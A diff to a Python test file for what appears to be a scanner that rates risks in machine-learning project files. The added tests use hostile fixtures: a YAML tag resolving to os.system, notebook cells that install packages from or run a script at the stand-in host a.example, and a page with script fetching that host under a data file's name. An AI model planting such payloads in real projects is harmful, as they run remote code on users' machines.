@@ -250,4 +250,33 @@ def test_settings_of_an_editor_that_start_a_harmful_program_are_high():
 
 def test_names_of_known_libraries_in_tags_are_low():
     assert is_quiet(look(b"a: !!python/name:torch.nn.modules.activation.ReLU ''\n", "hparams.yaml"))
-    assert worst(look(b"a: !!python/name:os.system ''\n", "hparams.yaml")) is Level.HIGH
+    assert worst(look(b"a: !!python/name:os.system ''\n", "hparams.yaml")) is Level.CRITICAL
+
+
+def test_cells_that_install_from_elsewhere_or_run_an_address_are_high():
+    for cell in (
+        "%pip install --index-url http://a.example x",
+        "!pip install -i https://a.example x",
+        "%run https://a.example/x.py",
+    ):
+        assert levels(look(a_notebook(cell), "a.ipynb"), "notebook/harmful-command") == {Level.HIGH}
+    assert is_quiet(
+        look(a_notebook("%pip install --index-url https://download.pytorch.org/whl/cpu torch"), "a.ipynb")
+    )
+
+
+def test_a_lock_file_is_quiet_until_it_leads_elsewhere():
+    locked = '[[package]]\nname = "numpy"\nwheels = [{{ url = "https://{}/numpy.whl", hash = "sha256:0" }}]\n'
+
+    assert is_quiet(look(locked.format("files.pythonhosted.org").encode(), "uv.lock"))
+    assert worst(look(locked.format("a.example").encode(), "uv.lock")) is Level.MEDIUM
+    assert is_quiet(
+        look(b'{"packages": {"x": {"resolved": "https://registry.npmjs.org/x.tgz"}}}', "package-lock.json")
+    )
+
+
+def test_a_page_with_script_under_the_name_of_data_is_high():
+    page = b"<html><script>fetch('http://a.example')</script></html>"
+
+    assert worst(look(page, "model.json")) is Level.HIGH
+    assert worst(look(page, "report.html")) is Level.LOW
